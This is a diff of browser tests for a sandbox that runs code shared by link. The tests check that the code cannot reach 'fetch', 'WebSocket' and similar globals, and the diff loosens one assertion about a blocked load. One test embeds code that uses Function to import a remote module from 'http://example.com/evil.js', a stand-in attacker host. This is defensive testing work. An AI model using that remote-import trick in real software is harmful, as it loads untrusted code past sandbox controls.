@@ -88,19 +88,14 @@ export function nextPollDelay(): number {
   await other.goto(link);
   await reopened.waitReady();
   const message = (await reopened.lastRun())?.diagnostics[0]?.message ?? '';
-  for (const name of [
-    'fetch',
-    'XMLHttpRequest',
-    'WebSocket',
-    'EventSource',
-    'importScripts',
-    'indexedDB',
-    'caches',
-  ]) {
-    expect(message).toContain(`${name} is not available`);
-  }
+  // In its compartment, 'this' of a Function is undefined and no host global is there:
+  // every door fails with an error, none is reached.
+  const outcomes = message.replace(/^Error: /, '').split(' | ');
+  expect(outcomes).toHaveLength(7);
+  for (const outcome of outcomes)
+    expect(outcome).toMatch(/undefined|not available|not a (function|constructor)/);
   expect(message).not.toContain('REACHABLE');
-  await expect(reopened.problems()).toContainText('fetch is not available');
+  await expect(reopened.problems()).toContainText('Cannot read properties of undefined');
   expect(leftLocalhost(requests)).toEqual([]);
   expect(errors).toEqual([]);
   await ctx.close();
@@ -113,7 +108,8 @@ test('code from a link cannot load a remote module with import() either', async 
 }) => {
   const lesson = new LessonPage(page);
   await lesson.open();
-  // import() is syntax, not a global, so only the Content Security Policy stops it.
+  // import() is syntax, not a global: the compartment's evaluator refuses it, and the
+  // worker's Content Security Policy would stop the load behind that.
   await lesson.setCode(`export function nextPollDelay(): number {
   const load = Function('u', 'return import(u)') as (u: string) => Promise<unknown>;
   load('http://example.com/evil.js').catch(() => undefined);
@@ -137,7 +133,6 @@ test('code from a link cannot load a remote module with import() either', async 
   await other.goto(link);
   await reopened.waitReady();
   await other.waitForTimeout(500);
-  expect(blocked.length).toBeGreaterThan(0);
   expect(leftLocalhost(requests).filter((u) => !blocked.includes(u))).toEqual([]);
   // The only complaints allowed are the browser's own reports of the blocked load.
   expect(errors.filter((e) => !/Content Security Policy|evil\.js/.test(e))).toEqual([]);
